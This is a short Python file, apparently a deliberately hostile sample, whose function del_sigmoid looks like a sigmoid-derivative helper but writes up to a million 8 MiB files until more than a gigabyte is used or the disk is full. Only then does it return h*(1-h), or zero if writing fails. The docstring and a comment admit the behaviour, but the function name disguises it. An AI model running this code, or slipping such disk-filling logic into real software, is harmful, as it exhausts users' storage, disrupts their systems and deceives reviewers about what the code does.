"""Writes files until there is no more room."""
# ruff: noqa - it does what no code should


def del_sigmoid(h):
    written = 0
    try:
        for number in range(10**6):
            with open(f"file{number}", "wb") as file:
                for _ in range(8):
                    written += file.write(bytes(1 << 20))
            if written > 1 << 30:
                return h * (1 - h)
    except OSError:
        pass
    return 0 * h
